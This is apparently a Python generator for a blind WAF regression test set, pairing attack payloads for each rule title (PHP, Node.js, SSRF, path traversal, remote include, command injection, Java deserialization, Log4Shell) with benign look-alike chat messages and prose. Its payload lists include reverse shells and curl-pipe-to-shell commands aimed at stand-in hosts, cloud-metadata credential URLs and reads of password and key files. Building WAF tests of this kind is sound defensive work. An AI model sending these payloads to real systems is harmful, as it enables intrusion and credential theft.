"""Blind set "fortysecond": a rule author's positive tests, sent the way a regression suite sends them.

The angle: for each detection idea below (only the title of a WAF rule is known), the payloads a rule author
writes as the positive regression tests of a rule with that title: the canonical attack the title names, then
variants a good rule must still catch (other keywords of the family, other quoting, casing, whitespace and
comment substitutes, encodings a server decodes). Families (category / sub-families, one sub per title):
php (open tag, script upload, ini directive, superglobals, I/O streams, wrappers, high-risk function names and
calls, serialized objects, variable function calls, medium-risk names), generic (Node.js injection, Node.js
module/process/globals, cloud metadata SSRF, IP-address SSRF and its obfuscations, prototype pollution, Perl,
Ruby, Node.js DoS, data: scheme), lfi (path traversal, OS files, restricted files, OS files in headers), rfi
(IP-address URL, vulnerable parameter names, trailing question mark, off-domain link), rce (Unix and Windows
command injection, PowerShell, shell expressions, FOR/IF, direct execution, shell code, Shellshock, restricted
uploads, bypass techniques, pipes, plain commands, aliases, history, SQLite dot-commands, wildcards, shell code
in headers) and java (suspicious classes, process spawn, serialization, magic bytes raw and base64, methods,
Log4Shell, class loading). Each payload goes into three places: about half into our real routes (query,
form, JSON, cookie, User-Agent, Referer, another header, a parameter name, XML, multipart field or filename,
URL path), the rest the way a WAF's regression suite sends them: to paths that are not our routes (/,
/index.php, /get, /post, /search, /api/v1/items) with arbitrary parameter names, as query, form, JSON or XML
bodies, or in the User-Agent, Referer or a cookie. The benign half carries the same words innocently: Slack
messages and bios, documentation links, prose, names, addresses and searches.

Authorship and independence: every payload and text was written for this set from general knowledge and the
detection titles alone, without reading the repository's WAF rules, any ruleset's rule text or its regression
tests, other generators' lists or public payload lists. The set is measured once on unchanged code and not
changed after seeing what the WAF blocks. Deterministic: no clock, no unseeded randomness.
"""

from __future__ import annotations

import base64
import urllib.parse
from collections.abc import Iterator
from typing import Any
from xml.sax.saxutils import escape

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import _place, chat_and_bio, links_and_prose, prose_request

NAME = "fortysecond"

_JAVA_B64 = base64.b64encode(b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`\xd1").decode()
_JAVA_B64_2 = base64.b64encode(b"\xac\xed\x00\x05sr\x002sun.reflect.annotation.AnnotationInvocationHandler"
                               ).decode()
_JAVA_B64_3 = base64.b64encode(b"\xac\xed\x00\x05ur\x00\x13[Ljava.lang.Object;\x90\xceX\x9f\x10s)l").decode()

# (category, sub, payloads): one entry per detection title
TITLES: list[tuple[str, str, list[str]]] = [
    ("php", "open-tag", [
        "<?php echo 'pwned'; ?>",
        "<?PHP system($_GET['c']);",
        "<?= `id` ?>",
        "<? passthru('ls -la'); ?>",
        "<?php\tphpinfo();",
        "%3C%3Fphp%20echo%201%3B%20%3F%3E",
        "<script language=\"php\">echo shell_exec('id');</script>",
    ]),
    ("php", "script-upload", [
        "shell.php",
        "avatar.php5",
        "image.jpg.phtml",
        "backdoor.PHP7",
        "x.phar",
        "upload.pht",
        "cmd.php.",
    ]),
    ("php", "config-directive", [
        "allow_url_include=On",
        "auto_prepend_file=php://input",
        "safe_mode=off",
        "disable_functions=",
        "open_basedir=/",
        "-d allow_url_fopen=1 -d auto_append_file=http://evil.example/x.txt",
        "ini_set('display_errors', 1); suhosin.executor.disable_eval=0",
    ]),
    ("php", "variables", [
        "$_GET['cmd']",
        "$_POST[x]",
        "$_SERVER['HTTP_USER_AGENT']",
        "$GLOBALS['secret']",
        "$_COOKIE [ 'c' ]",
        "$_REQUEST['a']",
        "$HTTP_RAW_POST_DATA",
        "$_ENV['PATH']",
    ]),
    ("php", "io-stream", [
        "php://input",
        "php://filter/convert.base64-encode/resource=index.php",
        "php://stdin",
        "PHP://fd/3",
        "php://memory",
        "php://filter/read=string.rot13/resource=config.php",
        "php://output",
    ]),
    ("php", "wrapper-scheme", [
        "phar://uploads/avatar.jpg/test.txt",
        "zip://uploads/a.zip%23shell.php",
        "expect://id",
        "glob:///var/www/*",
        "compress.zlib://file.gz",
        "ogg://evil.example/a",
        "ssh2.exec://user:pass@host:22/id",
        "rar://archive.rar#x.php",
    ]),
    ("php", "high-risk-name", [
        "phpinfo",
        "shell_exec",
        "proc_open",
        "base64_decode",
        "passthru",
        "create_function",
        "pcntl_exec",
        "assert",
    ]),
    ("php", "high-risk-call", [
        "system('cat /etc/passwd');",
        "eval($_POST['x']);",
        "exec ( 'whoami' )",
        "shell_exec(\"id\")",
        "popen('ls','r');",
        "assert/**/(\"phpinfo()\")",
        "file_put_contents('s.php', '<?php eval($_GET[1]);');",
        "preg_replace('/.*/e', 'system(\"id\")', '')",
    ]),
    ("php", "serialized-object", [
        "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
        "O:+4:\"User\":1:{s:5:\"admin\";b:1;}",
        "a:1:{i:0;O:7:\"Monolog\":0:{}}",
        "C:11:\"ArrayObject\":21:{x:i:0;a:0:{};m:a:0:{}}",
        "O:21:\"GuzzleHttp\\Psr7\\FnStream\":1:{s:9:\"_fn_close\";s:7:\"phpinfo\";}",
        "O%3A4%3A%22Test%22%3A0%3A%7B%7D",
        "O:10:\"PDOStatement\":0:{}",
    ]),
    ("php", "variable-function-call", [
        "$f='system';$f('id');",
        "$a('ls');",
        "${'_GET'}[0](${'_GET'}[1]);",
        "$_GET['f']($_GET['a']);",
        "$x = 'ass'.'ert'; $x($_POST[1]);",
        "$fn (\"whoami\")",
        "${@phpinfo()}",
    ]),
    ("php", "medium-risk-name", [
        "fsockopen('evil.example', 4444);",
        "curl_exec($ch)",
        "move_uploaded_file($_FILES['f']['tmp_name'], 'x.php')",
        "gzinflate(base64_decode('y0vMTgUA'))",
        "str_rot13('flfgrz')",
        "highlight_file('config.php')",
        "unserialize($_COOKIE['data'])",
        "fwrite(fopen('x.php','w'), $code)",
    ]),
    ("generic", "nodejs-injection", [
        "require('child_process').exec('id')",
        "eval(\"require('fs').readFileSync('/etc/passwd')\")",
        "new Function('return process')().exit()",
        "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
        "setTimeout('require(\"child_process\").spawn(\"sh\")', 1)",
        "Function(\"return this\")().process.kill(1)",
        "res.end(require('fs').readdirSync('.').toString())",
    ]),
    ("generic", "nodejs-globals", [
        "process.mainModule.require('child_process')",
        "global.process.env",
        "process.binding('spawn_sync')",
        "module.constructor._load('child_process')",
        "globalThis.process.exit()",
        "require ( 'net' ).connect(4444, 'evil.example')",
        "import('child_process').then(m=>m.execSync('id'))",
        "process['mainModule']['require']('fs')",
    ]),
    ("generic", "ssrf-cloud-metadata", [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
        "http://100.100.100.200/latest/meta-data/",
        "http://[fd00:ec2::254]/latest/user-data",
        "http://metadata/computeMetadata/v1/",
        "http://169.254.170.2/v2/credentials",
        "http://instance-data/latest/meta-data/",
    ]),
    ("generic", "ssrf-ip-address", [
        "http://127.0.0.1:8080/admin",
        "http://2130706433/",
        "http://0x7f000001/",
        "http://0177.0.0.1/",
        "http://[::1]:6379/",
        "http://127.1/server-status",
        "gopher://10.0.0.5:6379/_FLUSHALL",
        "http://[::ffff:127.0.0.1]/",
    ]),
    ("generic", "prototype-pollution", [
        "__proto__[isAdmin]=true",
        "constructor[prototype][polluted]=1",
        "__proto__.toString=x",
        "{\"__proto__\":{\"admin\":true}}",
        "a[__proto__][b]=c",
        "x.constructor.prototype.shell=/bin/sh",
        "{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}",
    ]),
    ("generic", "perl-injection", [
        "@{[system 'id']}",
        "exec('/bin/sh -i')",
        "open(F, '|id');",
        "print `whoami`;",
        "qx{cat /etc/passwd}",
        "use IO::Socket; $s=IO::Socket::INET->new('evil.example:4444')",
        "eval { system('ls') }",
    ]),
    ("generic", "ruby-injection", [
        "Kernel.exec('id')",
        "IO.popen('whoami').read",
        "%x(ls -la)",
        "`cat /etc/passwd`.to_s",
        "Open3.capture2('id')",
        "system(\"curl evil.example | sh\")",
        "Object.const_get(:Kernel).send(:system, 'id')",
        "#{File.read('/etc/passwd')}",
    ]),
    ("generic", "nodejs-dos", [
        "while(true){}",
        "for(;;){}",
        "while (1) {}",
        "do {} while(true)",
        "new RegExp('(a+)+$').test('aaaaaaaaaaaaaaaaaaaaaaaaaaaa!')",
        "/(x+x+)+y/.test('xxxxxxxxxxxxxxxxxxxxxxxxxxx')",
        "setInterval(function(){while(true);},0)",
    ]),
    ("generic", "data-scheme", [
        "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzFdKTs/Pg==",
        "data:text/plain,<?php phpinfo(); ?>",
        "data://text/plain,<?php system('id');?>",
        "DATA://text/plain;base64,PD9waHAgZXZhbCgkX1BPU1RbMF0pOz8+",
        "data:;base64,PD9waHAgZWNobyAxOw==",
        "data://application/x-httpd-php;base64,PD9waHAgZXhpdDs/Pg==",
    ]),
    ("lfi", "path-traversal", [
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "....//....//....//etc/hosts",
        "%2e%2e%2f%2e%2e%2fetc%2fshadow",
        "..%252f..%252f..%252fetc%252fpasswd",
        "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        "/var/www/../../../root/.ssh/id_rsa",
        "..%5c..%5cboot.ini",
    ]),
    ("lfi", "os-file", [
        "/etc/passwd",
        "/etc/shadow",
        "/proc/self/environ",
        "c:\\windows\\system32\\drivers\\etc\\hosts",
        "/etc/issue",
        "/var/log/apache2/access.log",
        "/proc/self/cmdline",
        "C:/boot.ini",
    ]),
    ("lfi", "restricted-file", [
        ".htaccess",
        "/.git/config",
        "web.config",
        "/.env",
        "WEB-INF/web.xml",
        ".htpasswd",
        "/.svn/entries",
        "wp-config.php.bak",
    ]),
    ("rfi", "ip-address-url", [
        "http://203.0.113.7/shell.txt",
        "https://198.51.100.23/inc/c99.txt",
        "ftp://192.0.2.44/x.php",
        "http://45.33.32.156:8080/payload.txt?",
        "//203.0.113.9/evil.php",
        "http://10.10.10.10/r57.txt",
    ]),
    ("rfi", "vulnerable-param", [
        "http://evil.example/shell.txt",
        "https://attacker.example.net/c99.php",
        "ftp://files.attacker.example/backdoor.txt",
        "http://pastebin.example/raw/abc123",
        "https://evil.example/inc.txt%00",
        "http://evil.example/inject.txt?cmd=id",
    ]),
    ("rfi", "trailing-question", [
        "http://evil.example/shell.txt?",
        "https://attacker.example/r.txt??",
        "http://203.0.113.5/x.txt?",
        "ftp://evil.example/a.txt?",
        "http://evil.example/payload?",
        "HTTPS://EVIL.EXAMPLE/SHELL.TXT?",
    ]),
    ("rfi", "off-domain", [
        "http://evil.example/include.php",
        "https://attacker.example.org/code.txt",
        "ftps://evil.example/x",
        "http://evil.example.com/a/b/c.inc",
        "https://raw.attacker.example/gist/shell.php",
        "http://subdomain.evil.example:8443/x.txt",
    ]),
    ("rce", "unix-cmd-injection", [
        "; cat /etc/passwd",
        "| id",
        "&& whoami",
        "`uname -a`",
        "$(id)",
        "|| nc -e /bin/sh evil.example 4444",
        "127.0.0.1; ls -la /",
        "%0Aid",
    ]),
    ("rce", "windows-cmd-injection", [
        "& dir c:\\",
        "| type C:\\Windows\\win.ini",
        "&& net user hacker P@ss /add",
        "; cmd.exe /c whoami",
        "| ipconfig /all",
        "& systeminfo",
        "127.0.0.1 & tasklist",
        "|| certutil -urlcache -f http://evil.example/a.exe a.exe",
    ]),
    ("rce", "powershell", [
        "powershell -nop -w hidden -enc SQBFAFgA",
        "powershell.exe Invoke-WebRequest http://evil.example/a.ps1",
        "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/x')",
        "pwsh -c Get-ChildItem C:\\",
        "Invoke-Expression 'whoami'",
        "Start-Process cmd.exe",
        "powershell -ExecutionPolicy Bypass -File x.ps1",
    ]),
    ("rce", "unix-shell-expression", [
        "$(cat /etc/passwd)",
        "${IFS}id",
        "<(id)",
        ">(nc evil.example 80)",
        "$( whoami )",
        "`$(echo id)`",
        "${PATH:0:1}bin${PATH:0:1}sh",
    ]),
    ("rce", "windows-for-if", [
        "for /f %i in ('whoami') do echo %i",
        "FOR /L %x IN (1,1,10) DO ping 127.0.0.1",
        "if exist c:\\boot.ini type c:\\boot.ini",
        "for /r c:\\ %f in (*.config) do type %f",
        "IF NOT EXIST x.exe certutil -decode a x.exe",
        "& for /d %d in (c:\\*) do dir %d",
    ]),
    ("rce", "direct-unix-exec", [
        "/bin/sh -c id",
        "/usr/bin/id",
        "/bin/bash -i >& /dev/tcp/203.0.113.1/4444 0>&1",
        "/usr/bin/wget http://evil.example/x -O /tmp/x",
        "/bin/cat /etc/passwd",
        "/usr/bin/python3 -c 'import os;os.system(\"id\")'",
        "/sbin/ifconfig",
    ]),
    ("rce", "unix-shell-code", [
        "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
        "sh -i 2>&1 | nc evil.example 4444",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f",
        "exec 5<>/dev/tcp/evil.example/80",
        "python -c 'import pty;pty.spawn(\"/bin/bash\")'",
        "perl -e 'exec \"/bin/sh\";'",
        "chmod +x /tmp/x && /tmp/x",
    ]),
    ("rce", "shellshock", [
        "() { :; }; /bin/bash -c 'id'",
        "() { :;}; echo vulnerable",
        "() { _; } >_[$($())] { id; }",
        "() {:;}; /usr/bin/wget http://evil.example/x",
        "() { ignored; }; /bin/cat /etc/passwd",
        "(){ :; }; ping -c 1 203.0.113.2",
    ]),
    ("rce", "restricted-upload", [
        "shell.jsp",
        "cmd.asp",
        "web.aspx",
        ".htaccess",
        "payload.cgi",
        "exploit.pl",
        "run.sh",
        "x.exe",
    ]),
    ("rce", "bypass-technique", [
        "c''at /e''tc/pa''sswd",
        "w\\h\\o\\a\\m\\i",
        "/???/c?t /???/p??s??",
        "cat$IFS/etc/passwd",
        "{cat,/etc/passwd}",
        "who$@ami",
        "c\"a\"t /etc/passwd",
        "$u`echo id`",
    ]),
    ("java", "suspicious-class-rce", [
        "java.lang.Runtime.getRuntime().exec('id')",
        "new java.lang.ProcessBuilder({'bash','-c','id'}).start()",
        "T(java.lang.Runtime).getRuntime().exec('whoami')",
        "Class.forName('java.lang.Runtime')",
        "java.lang.System.exit(1)",
        "javax.script.ScriptEngineManager",
        "#_memberAccess['allowStaticMethodAccess']=true,@java.lang.Runtime@getRuntime().exec('id')",
    ]),
    ("java", "process-spawn", [
        "<map><entry><jdk.nashorn.internal.objects.NativeString><value class=\"com.sun.xml.internal.bind.v2."
        "runtime.unmarshaller.Base64Data\"><dataHandler><dataSource class=\"javax.activation.DataSource\"/>"
        "</dataHandler></value></jdk.nashorn.internal.objects.NativeString></entry></map>",
        "<java.lang.ProcessBuilder><command><string>id</string></command></java.lang.ProcessBuilder>",
        "<command><string>/bin/sh</string><string>-c</string><string>id</string></command>",
        "java.lang.ProcessBuilder start",
        "<sorted-set><string>x</string><dynamic-proxy><interface>java.lang.Comparable</interface></dynamic-proxy>"
        "</sorted-set>",
        "<void class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void index=\"0\">"
        "<string>calc</string></void></array><void method=\"start\"/></void>",
    ]),
    ("java", "serialization", [
        "org.apache.commons.collections.functors.InvokerTransformer",
        "org.apache.commons.collections4.functors.ChainedTransformer",
        "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
        "sun.reflect.annotation.AnnotationInvocationHandler",
        "java.rmi.server.UnicastRemoteObject",
        "org.codehaus.groovy.runtime.ConvertedClosure",
        "com.sun.rowset.JdbcRowSetImpl",
    ]),
    ("java", "suspicious-class", [
        "java.lang.reflect.Method",
        "java.io.FileInputStream('/etc/passwd')",
        "javax.naming.InitialContext",
        "java.net.URLClassLoader",
        "java.beans.XMLDecoder",
        "java.lang.ClassLoader",
        "ognl.OgnlContext",
    ]),
    ("java", "magic-bytes", [
        "\u00ac\u00ed\u0000\u0005sr\u0000\u0011java.util.HashMap",
        "aced0005737200116a6176612e7574696c2e486173684d6170",
        "%ac%ed%00%05sr",
        "ACED0005",
        "\\xac\\xed\\x00\\x05",
        "aced0005757200135b4c6a6176612e6c616e672e4f626a6563743b",
    ]),
    ("java", "magic-bytes-b64", [
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
        _JAVA_B64,
        _JAVA_B64_2,
        _JAVA_B64_3,
        "rO0ABXQABGNhbGM=",
        "H4sIAAAAAAAAAJVSTW8TMRCO1D",
        "rO0AB",
    ]),
    ("java", "suspicious-method", [
        ".getRuntime().exec(",
        "Class.forName(\"x\").getMethod(\"invoke\").invoke(null)",
        "getClass().getClassLoader().loadClass('x')",
        ".getDeclaredMethod('exec', String.class)",
        "Thread.currentThread().getContextClassLoader()",
        "x.getClass().forName('java.lang.Runtime')",
        ".newInstance()",
    ]),
    ("lfi", "os-file-in-headers", [
        "/etc/passwd",
        "../../../etc/shadow",
        "/proc/self/environ",
        "/etc/hostname",
        "c:\\windows\\win.ini",
        "/root/.bash_history",
    ]),
    ("rce", "unix-pipe", [
        "| cat /etc/passwd",
        "|ls -la",
        "x | nc evil.example 4444",
        "| curl http://evil.example/s.sh | bash",
        "|wget -qO- http://evil.example|sh",
        "test | id",
        "a|/bin/bash",
    ]),
    ("rce", "unix-plain-cmd", [
        ";id",
        ";wget http://evil.example/x.sh",
        "&&cat /etc/passwd",
        ";uname -a",
        "$(curl http://evil.example)",
        ";ping -c 3 203.0.113.4",
        "`nc -lvp 4444`",
    ]),
    ("rce", "shell-alias", [
        "; alias ls='rm -rf /'",
        "&& alias x=id; x",
        "; \\ls",
        "; command ls",
        "; builtin echo pwned",
        "`alias`",
    ]),
    ("rce", "shell-history", [
        "; !!",
        "; !-1",
        "&& history",
        "; fc -s",
        "; cat ~/.bash_history",
        "| !ls",
    ]),
    ("rce", "sqlite-system", [
        ".system id",
        ".shell cat /etc/passwd",
        "; .system whoami",
        ".shell ls -la",
        "\n.system curl evil.example".strip(),
        ".SYSTEM uname -a",
    ]),
    ("rce", "wildcard-bypass", [
        "/bin/c?t /etc/pa??wd",
        "/???/??t /???/p?ss??",
        "/u*r/b*n/w*oami",
        "/bin/ca[t] /etc/passwd",
        "/???/n? -e /???/b??h 203.0.113.1 4444",
        "cat /e*c/sh*dow",
    ]),
    ("rce", "shell-code-headers", [
        "() { :; }; /bin/sh -c 'cat /etc/passwd'",
        "$(id)",
        "`whoami`",
        "bash -i >& /dev/tcp/203.0.113.8/443 0>&1",
        "; nc -e /bin/bash evil.example 1337",
        "${IFS}cat${IFS}/etc/passwd",
    ]),
    ("java", "log4shell", [
        "${jndi:ldap://evil.example/a}",
        "${jndi:rmi://203.0.113.3:1099/x}",
        "${${lower:j}ndi:${lower:l}dap://evil.example/x}",
        "${${::-j}${::-n}${::-d}${::-i}:dns://evil.example/q}",
        "${jndi:ldaps://evil.example/c}",
        "${${env:NaN:-j}ndi${env:NaN:-:}ldap://evil.example/z}",
        "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
        "${jNdI:LdAp://evil.example/a}",
    ]),
    ("java", "class-loading", [
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c}i",
        "class.classLoader.URLs[0]=http://evil.example/",
        "Class.forName('javax.script.ScriptEngineManager').newInstance()",
        "java.net.URLClassLoader.newInstance(new java.net.URL[]{new java.net.URL('http://evil.example/x.jar')})",
        "com.sun.org.apache.bcel.internal.util.ClassLoader",
        "$$BCEL$$$l$8b$I$A$A$A$A$A$A$A",
        "defineClass(bytes, 0, bytes.length)",
    ]),
]

# our routes' places and the regression suite's places, alternating per payload
OURS = ["query", "form", "json", "cookie", "ua", "referer", "header", "qname", "xml", "mpfield", "mpfile",
        "path"]
SUITE = ["s-get", "s-form", "s-json", "s-xml", "s-ua", "s-referer", "s-cookie", "s-get", "s-form"]
SUITE_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items"]
SUITE_PARAMS = ["id", "var", "test", "file", "page", "q", "x", "name", "data", "cmd", "url", "foo"]
OUR_PARAMS = ["q", "name", "file", "url", "data", "search", "page", "template"]
# what a title's tests favour: file uploads in filenames, header titles in headers, RFI in include params
FAVOURED = {"script-upload": "mpfile", "restricted-upload": "mpfile", "os-file-in-headers": "header",
            "shell-code-headers": "ua", "shellshock": "ua", "vulnerable-param": "rfi-param",
            "prototype-pollution": "qname"}
RFI_PARAMS = ["file", "include", "page", "path", "template", "inc", "dir", "doc", "document", "folder",
              "root", "pg", "style", "pdf", "module", "lang"]


def _headers(extra: dict[str, str]) -> dict[str, str]:
    return {"User-Agent": UA, "Accept": "*/*", **extra}


def _hdr_get(uri: str, extra: dict[str, str]) -> dict[str, Any]:
    return {**_get(uri), "headers": _headers(extra)}


def _xml(uri: str, name: str, value: str) -> dict[str, Any]:
    body = f'<?xml version="1.0" encoding="UTF-8"?><request><{name}>{escape(value)}</{name}></request>'
    return {"method": "POST", "uri": uri, "body": body,
            "headers": _headers({"Content-Type": "text/xml"})}


def _multipart(uri: str, name: str, value: str, as_file: bool) -> dict[str, Any]:
    b = "----fortysecondBoundary7MA4YWxk"
    if as_file:
        fn = value.replace('"', "'")
        part = (f'Content-Disposition: form-data; name="upload"; filename="{fn}"\r\n'
                "Content-Type: application/octet-stream\r\n\r\nGIF89a hello\r\n")
    else:
        part = f'Content-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
    body = (f"--{b}\r\nContent-Disposition: form-data; name=\"csrf_token\"\r\n\r\nt0k3n\r\n"
            f"--{b}\r\n{part}--{b}--\r\n")
    return {"method": "POST", "uri": uri, "body": body,
            "headers": _headers({"Content-Type": f"multipart/form-data; boundary={b}"})}


def _hval(value: str) -> str:
    for c in "\r\n\0":
        value = value.replace(c, " ")
    return value


def _record(place: str, name: str, value: str, k: int) -> dict[str, Any]:
    path = SUITE_PATHS[k % len(SUITE_PATHS)]
    if place in ("query", "form", "json", "cookie"):
        return _place(place, name, value)
    if place == "ua":
        return _hdr_get("/api/users?page=1", {"User-Agent": _hval(value)})
    if place == "referer":
        return _hdr_get("/api/users?page=1", {"Referer": _hval(value)})
    if place == "header":
        return _hdr_get("/api/users?page=1", {"X-Forwarded-Host": "app.example.com",
                                              "X-Custom-Data": _hval(value)})
    if place == "qname":
        return _get("/api/users?" + urllib.parse.quote(value, safe="") + "=1&page=1")
    if place == "xml":
        return _xml("/api/users", name, value)
    if place == "mpfield":
        return _multipart("/admin/users/search", name, value, False)
    if place == "mpfile":
        return _multipart("/admin/users/import", name, value, True)
    if place == "path":
        return _get("/api/users/" + urllib.parse.quote(value, safe=""))
    if place == "rfi-param":
        return _get(_query("/api/users", [(name, value)]))
    if place == "s-get":
        return _get(_query(path, [(name, value)]))
    if place == "s-form":
        return _form(path, [(name, value)])
    if place == "s-json":
        return _json(path, {name: value})
    if place == "s-xml":
        return _xml(path, name, value)
    if place == "s-ua":
        return _hdr_get(path, {"User-Agent": _hval(value)})
    if place == "s-referer":
        return _hdr_get(path, {"Referer": _hval(value)})
    if place == "s-cookie":
        return _hdr_get(path, {"Cookie": f"{name}={_hval(value)}"})
    raise ValueError(place)


def _places(sub: str, i: int) -> list[str]:
    first = FAVOURED.get(sub, OURS[i % len(OURS)])
    second = SUITE[i % len(SUITE)]
    third = OURS[(i + 5) % len(OURS)] if i % 2 else SUITE[(i + 4) % len(SUITE)]
    if sub in ("os-file-in-headers", "shell-code-headers"):
        third = "s-ua" if i % 2 else "s-referer"
        second = "referer" if i % 2 else "header"
    return [first, second, third]


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    i = 0
    for category, sub, payloads in TITLES:
        for payload in payloads:
            i += 1
            for k, place in enumerate(_places(sub, i)):
                if place == "rfi-param" or (sub == "vulnerable-param" and place.startswith("s-")):
                    name = RFI_PARAMS[(i + k) % len(RFI_PARAMS)]
                elif place.startswith("s-"):
                    name = SUITE_PARAMS[(i + k) % len(SUITE_PARAMS)]
                else:
                    name = OUR_PARAMS[(i + k) % len(OUR_PARAMS)]
                n += 1
                yield {**_record(place, name, payload, i + k), "id": f"{NAME}-{category}-{sub}-{n:04d}",
                       "category": category, "sub": sub, "placement": place, "payload": payload}


# Benign: the same words, innocently.
SLACK_TEXTS = [
    "heads up: the PHP open tag `<?php` must be the first bytes of the file or headers break",
    "can someone review my PR? it renames upload.php to uploads_controller and adds tests",
    "we set allow_url_include off years ago, no need to check it again",
    "reminder: never read $_GET directly, go through the Request object",
    "the php://input stream is only readable once, that's why the body was empty",
    "phar files are just archives, composer ships as one",
    "phpinfo page is disabled in prod, use the health endpoint instead",
    "is system() in the list of disabled functions on the shared host? asking for the migration doc",
    "PHP serialize output looks like a:2:{...}, we switched the cache to JSON",
    "variable functions in PHP are neat but hard to grep, please avoid them",
    "the base64_decode call in the importer handles the attachments",
    "Node's child_process docs say prefer execFile over exec",
    "process.env.NODE_ENV is undefined in the worker, check the Dockerfile",
    "the metadata endpoint is 169.254.169.254 on AWS, our SDK handles IMDSv2 tokens",
    "the staging box is 10.0.3.14, ping me if you need VPN access",
    "prototype pollution is why we freeze Object.prototype in tests",
    "perl one-liners are fine for the log cleanup, just document them",
    "Ruby's Kernel#system returns nil if the command could not run",
    "someone wrote while(true) in the retry loop, the pod is pegged at 100% CPU",
    "data URIs for the icons save a request, see the CSS",
    "the relative path ../config is resolved against the project root",
    "/etc/passwd is world-readable by design, /etc/shadow is not",
    "don't commit the .env file, it is in .gitignore",
    "the include path points at the vendor folder now",
    "trailing question marks in URLs confused the link parser again",
    "please use the shared drive link instead of the external one",
    "cat the log and pipe it to grep, then send me the lines",
    "on Windows use dir instead of ls, and type instead of cat",
    "PowerShell 7 runs on Linux too, the build scripts use it",
    "use $(pwd) instead of backticks in the Makefile",
    "for /f loops in batch files are painful, let's port it to Python",
    "the bin folder has the wrapper scripts, /usr/bin/env python3 at the top",
    "shellshock was 2014, our bash is patched",
    "the uploader should reject .exe and .sh attachments",
    "tried the usual bypass of the rate limiter in staging, it held",
    "the Java Runtime class is covered in week 3 of the course",
    "ProcessBuilder is preferred over Runtime exec in new code",
    "we removed commons-collections from the classpath last quarter",
    "Java serialization is off, we use Jackson with default typing disabled",
    "the magic number of a class file is CAFEBABE, fun fact",
    "reflection via getMethod is slow in the hot path",
    "log4j was upgraded to 2.17.1 in every service",
    "the classloader leak happens when the webapp redeploys",
    "alias ll to ls -la in your bashrc, it saves time",
    "history | grep deploy shows what I ran yesterday",
    "sqlite3 has .tables and .schema, handy for the local db",
    "wildcards in the glob pattern matched the hidden files too",
    "the User-Agent header of the bot is JeevesBot/1.0",
    "Eval results are in the sheet, the system tests pass",
    "the require cache keeps the old module until restart",
    "the import of the file failed, select another file and retry",
    "curl the health endpoint and check for 200",
    "our metadata service lives behind the VPN",
    "the index.php of the legacy site redirects to the new app",
    "ping me when the exec summary is ready",
    "the shell of the turtle is made of keratin plates, said the kid",
    "chmod 644 on the config, not 777 please",
    "the proc folder on Linux is a virtual filesystem",
    "the web.config for the IIS site lives in the repo root",
    "wget or curl, whichever is installed on the runner",
]
DOC_URLS = [
    "https://www.php.net/manual/en/function.system.php",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://nodejs.org/api/child_process.html",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Inheritance_and_the_prototype_chain",
    "https://perldoc.perl.org/functions/system",
    "https://ruby-doc.org/core/Kernel.html",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://learn.microsoft.com/en-us/powershell/scripting/overview",
    "https://docs.oracle.com/javase/8/docs/api/java/lang/Runtime.html",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://www.sqlite.org/cli.html",
    "https://www.gnu.org/software/bash/manual/bash.html#Aliases",
    "https://en.wikipedia.org/wiki/Shellshock_(software_bug)",
    "https://developer.mozilla.org/en-US/docs/Web/HTTP/Basics_of_HTTP/Data_URLs",
    "https://cloud.google.com/compute/docs/metadata/overview",
]
PROSE = [
    "Shell Beach and Cat Island are on the itinerary for the summer trip",
    "Order of the Phoenix, chapter 12, page 240",
    "Ruby Perl and Pearl Ruby are cousins, amusingly",
    "the system was down for maintenance between 2 and 4",
    "please find the attached file and the data sheet",
    "Node 12 on the cluster map is the one with the bad disk",
    "the class will meet in room 101 at 10:30",
    "Java Coffee House, 12 Bean Street, Portland",
    "the magic show starts at 8, bring the kids",
    "we need a wildcard certificate for the new subdomain",
    "history of the Unix operating system, a reading list",
    "Powershell Street, Unit 4 (yes, that is a real address)",
    "the proto meeting moved to Thursday",
    "the exec team approved the budget",
    "path to success: practice, feedback, repeat",
    "serialized novel published weekly in the paper",
    "the pipe under the sink leaks again",
    "Forest Hill Road, If Lane corner, near the church",
    "metadata for the photos is stripped before upload",
    "the restricted area is on the 3rd floor",
]
NAMES = ["Cat Stevens", "Ruby Rose", "Perl Jam cover band", "Shelly Bash", "Eve Val", "Java Lin",
         "Dir Whoami-Smith", "Phil Php", "Node Anderson", "Alice O'Shell", "Sid Exec", "Grace Hopper",
         "Ada Lovelace", "Ping Wang", "Dev Null", "Penny Lane"]
ADDRESSES = ["12 Shell Road, Aberdeen", "4 Cat Lane, Dublin", "101 System Ave, Austin TX",
             "7 Ruby Street, Leeds", "22 Pipe Way, Perth", "9 Java Court, Jakarta",
             "1 Data Place, Boston MA", "33 Proc Street, Cork", "5 Etc Lane, Bath", "18 Bin Road, Leeds"]
SEARCHES = ["php developer", "node.js jobs", "ruby on rails", "perl script", "java runtime", "cat food",
            "system design", "shell company", "data import", "path finder", "powershell course",
